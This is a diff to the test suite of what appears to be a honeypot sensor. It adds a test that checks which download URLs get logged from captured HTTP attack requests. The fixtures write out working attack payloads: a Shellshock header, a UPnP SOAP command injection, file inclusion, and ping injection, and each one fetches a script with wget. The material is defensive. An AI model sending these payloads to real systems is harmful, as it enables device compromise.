@@ -281,6 +281,47 @@ def http_refused_requests_classified(ctx):
 
 
 @case
+def http_urls_only_where_pointed_at(ctx):
+    """The capture pipeline gets the URLs a request points at (a parameter's value, a body, an injected
+    command, a download tool anywhere), not the client's own URLs in its head (Referer, Origin, a
+    crawler's User-Agent, a proxy probe's absolute target), nor the namespace, encoding and algorithm
+    URIs every SOAP and SAML body carries, nor a URL's URL-encoded shell tail ("x%3Bsh")."""
+    d = web_daemon(ctx, "http-urls")
+    web, trap = d.svc("web").port, d.svc("trap").port
+    soap = (b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
+            b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping '
+            b'xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewInternalClient>`cd /tmp;wget '
+            b'http://192.0.2.41/w.sh`</NewInternalClient></u:AddPortMapping><ds:Transform '
+            b'Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></s:Body></s:Envelope>')
+    reqs = [
+        (web, b"GET http://192.0.2.40/judge.php HTTP/1.1\r\nHost: 192.0.2.40\r\n\r\n"),
+        (trap, b"GET /robots.txt HTTP/1.1\r\nHost: x\r\nReferer: http://192.0.2.42/spam\r\n"
+               b"Origin: https://192.0.2.43\r\nUser-Agent: Mozilla/5.0 (compatible; bingbot/2.0; "
+               b"+http://192.0.2.44/bingbot.htm)\r\n\r\n"),
+        (web, b"GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c "
+              b"\"wget http://192.0.2.45/s.sh -O /tmp/s\"\r\nReferer: http://192.0.2.45/s.sh\r\n\r\n"),
+        (web, b"GET /index.php?page=http://192.0.2.46/r.txt? HTTP/1.1\r\nHost: x\r\n\r\n"),
+        (trap, b"POST /ctl HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n"
+               % len(soap) + soap),
+        (web, b"GET /diag.cgi?ping=;wget%20http://192.0.2.47/m%3Bsh HTTP/1.1\r\nHost: x\r\n\r\n"),
+    ]
+    for port, raw in reqs:
+        send_and_close(port, raw)
+    wait_for(lambda: sum(e["eventid"] == "http.request" for e in d.events()) >= len(reqs), T(10),
+             what="every request")
+    time.sleep(0.5)
+    evs = stop_and_read(d)
+    got = sorted(e["url"] for e in evs if e["eventid"].startswith("session.file_download"))
+    assert got == ["http://192.0.2.41/w.sh", "http://192.0.2.45/s.sh", "http://192.0.2.46/r.txt",
+                   "http://192.0.2.47/m"], got
+    tools = {e["url"]: e["tool"] for e in evs if e["eventid"].startswith("session.file_download")}
+    assert tools["http://192.0.2.45/s.sh"] == "wget" and tools["http://192.0.2.46/r.txt"] == "url", tools
+    # the head's URLs are still on record, in the request's event
+    probe = [e for e in requests_of(evs) if e["uri"] == "http://192.0.2.40/judge.php"]
+    assert probe and "open-proxy-absolute" in probe[0]["class_rules"], probe
+
+
+@case
 def http_on_trap_ports_and_chunked_pipelined(ctx):
     """The trap hands HTTP over on any port; chunked bodies and pipelined requests are parsed."""
     d = web_daemon(ctx, "http-trap")
@@ -303,7 +344,8 @@ def http_on_trap_ports_and_chunked_pipelined(ctx):
 
 @case
 def http_exploit_corpus(ctx):
-    """Every exploit of tests/corpus/http, sent raw to a trap port: its class, CVEs and download URLs.
+    """Every exploit of tests/corpus/http, sent raw to a trap port: its class, CVEs and download URLs
+    (all of them, and no other).
     Each is sent twice, on two connections one after the other: the second gets the verdict the
     engine kept for the first (http_memo.h, counted in sensor.stop's http_verdicts_reused), which
     must be the same, and its session must log the URLs again.  An exploit the parser refuses, as
@@ -353,6 +395,11 @@ def http_exploit_corpus(ctx):
         if e["eventid"] == "http.request" and e["status"] == 400 and not (
                 e.get("rule") in NGINX_SITE_RULES and _nginx_refuses_target(text)):
             problems.append("%s: answered 400 (rule %s)" % (name, e.get("rule")))
+        # and no URL it does not point at: a Referer, an XML namespace, a URL's encoded shell tail
+        sessions = {x["session"] for x in got}
+        for u, ss in url_sessions.items():
+            if ss & sessions and u not in meta["url"]:
+                problems.append("%s: requested %s, which its file does not list" % (name, u))
         for k in verdict:
             if e.get(k) != got[1].get(k):
                 problems.append("%s: %s %r the first time, %r the second" % (name, k, e.get(k), got[1].get(k)))
